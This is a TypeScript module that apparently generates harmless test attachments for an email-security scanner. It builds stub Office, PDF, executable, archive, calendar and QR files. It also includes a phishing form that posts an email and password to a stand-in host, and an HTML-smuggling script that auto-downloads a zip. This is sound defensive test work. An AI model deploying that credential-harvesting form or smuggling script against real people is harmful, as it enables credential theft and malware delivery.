import { readFileSync } from 'node:fs';
import { crc32 } from 'node:zlib';
import type { WrittenFile } from './written-mail.ts';

/**
 * Images by the address they hold, `pdf ` before it where a PDF shows the image; written by us beside this file. Of two images of one
 * address that of the older set stands, whose letters are frozen with it: the newer sets come first.
 */
const QR_CODES = Object.assign(
  {},
  ...[
    'eighth/',
    'ninth/',
    'foreign/',
    'hands/d/',
    'hands/e/',
    'seventh/',
    'hands/a/',
    'hands/b/',
    'hands/c/',
    'sixth/',
    '',
    'third/',
    'fourth/',
    'fifth/',
  ].map((place) => JSON.parse(readFileSync(new URL(`${place}qr-codes.json`, import.meta.url), 'utf8'))),
) as Record<string, string>;

const encode = (text: string): Buffer => Buffer.from(text, 'utf8');

interface Member {
  name: string;
  bytes: Buffer;
}

/** A zip of stored members; `locked` sets the flag of encryption, as a reader sees it without the password. */
function zip(members: readonly Member[], locked = false): Buffer {
  const flag = locked ? 1 : 0;
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const { name, bytes } of members) {
    const title = encode(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flag, 2);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(bytes.length, 14);
    common.writeUInt32LE(bytes.length, 18);
    common.writeUInt16LE(title.length, 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, title, bytes]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), common, tail, title]));
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(members.length, 4);
  end.writeUInt16LE(members.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return Buffer.concat([...locals, directory, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

function office(folder: string, macro: boolean): Buffer {
  const parts = [
    '[Content_Types].xml',
    '_rels/.rels',
    `${folder}/document.xml`,
    ...(macro ? [`${folder}/vbaProject.bin`] : []),
  ];
  return zip(parts.map((name) => ({ name, bytes: encode(`<part name="${name}"/>`) })));
}

const PDF = encode(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
/** A PDF of one page whose only link leads to the address. */
const pdfWithLink = (address: string): Buffer =>
  encode(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>endobj\n4 0 obj<</Type/Annot/Subtype/Link/Rect[60 600 300 640]/A<</S/URI/URI(${address})>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );
const invitation = (address: string): Buffer =>
  encode(
    [
      'BEGIN:VCALENDAR',
      'VERSION:2.0',
      'METHOD:REQUEST',
      'BEGIN:VEVENT',
      'UID:b7c1e0',
      'DTSTART:20260310T010000Z',
      'DTEND:20260310T023000Z',
      'SUMMARY:Họp',
      ...(address === '' ? ['LOCATION:Phòng họp tầng 2'] : [`LOCATION:${address}`, `DESCRIPTION:Vào họp: ${address}`]),
      'END:VEVENT',
      'END:VCALENDAR',
      '',
    ].join('\r\n'),
  );
const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(120, 0x90)]);
const JPEG = Buffer.concat([Buffer.from('\xff\xd8\xff\xe0\x00\x10JFIF\x00', 'latin1'), Buffer.alloc(60)]);
const OLE = Buffer.concat([Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'), Buffer.alloc(504)]);
const FORM =
  '<html><body><h3>Xác thực để xem tài liệu</h3><form method="post" action="https://nhan-thong-tin.test/p"><input name="email"><input type="password" name="pass"><button>Mở</button></form></body></html>';
const SMUGGLE =
  '<html><script>var d=atob("UEsDBAoAAAAA");var a=new Uint8Array(d.length);var b=new Blob([a],{type:"application/zip"});var l=document.createElement("a");l.href=URL.createObjectURL(b);l.download="tai_lieu.zip";l.click();</script></html>';

const BY_ENDING: Record<string, () => Buffer> = {
  pdf: () => PDF,
  exe: () => PROGRAM,
  scr: () => PROGRAM,
  msi: () => OLE,
  doc: () => OLE,
  xls: () => OLE,
  docx: () => office('word', false),
  docm: () => office('word', true),
  xlsx: () => office('xl', false),
  xlsm: () => office('xl', true),
  jpg: () => JPEG,
  xml: () => encode('<?xml version="1.0" encoding="UTF-8"?><HDon><DLHDon Id="data"><TTChung/></DLHDon></HDon>'),
  pptx: () => office('ppt', false),
  lnk: () => Buffer.concat([Buffer.from('L\x00\x00\x00\x01\x14\x02\x00', 'latin1'), Buffer.alloc(68)]),
  '7z': () => Buffer.concat([Buffer.from("7z\xbc\xaf'\x1c\x00\x04", 'latin1'), Buffer.alloc(64, 7)]),
  rar: () => Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(64, 9)]),
  iso: () => Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001', 'latin1'), Buffer.alloc(200)]),
  svg: () => encode('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>'),
};

function bytesWithAddress({ name, trait }: WrittenFile, address: string): Buffer {
  if (name.endsWith('.ics')) {
    return invitation(address);
  }
  if (trait === 'link') {
    return pdfWithLink(address);
  }
  return Buffer.from(QR_CODES[name.endsWith('.pdf') ? `pdf ${address}` : address] ?? '', 'base64');
}

/** Bytes of an attachment as its name and traits say; nothing in them can do any harm. */
export function fileBytes(file: WrittenFile): Buffer {
  if (file.qr !== undefined || file.name.endsWith('.ics')) {
    return bytesWithAddress(file, file.qr ?? '');
  }
  if (file.trait === 'form') {
    return encode(FORM);
  }
  if (file.trait === 'smuggle') {
    return encode(
      file.name.endsWith('.svg') ? `<svg xmlns="http://www.w3.org/2000/svg">${SMUGGLE.slice(6, -7)}</svg>` : SMUGGLE,
    );
  }
  const ending = file.name.split('.').at(-1)?.toLowerCase() ?? '';
  if (ending === 'zip') {
    const name = file.member ?? 'tai_lieu.pdf';
    const inner = BY_ENDING[name.split('.').at(-1) ?? ''] ?? (() => encode('var shell = 1;\n'));
    return zip([{ name, bytes: inner() }], file.trait === 'locked');
  }
  return (BY_ENDING[ending] ?? (() => encode('Set shell = 1\r\n')))();
}
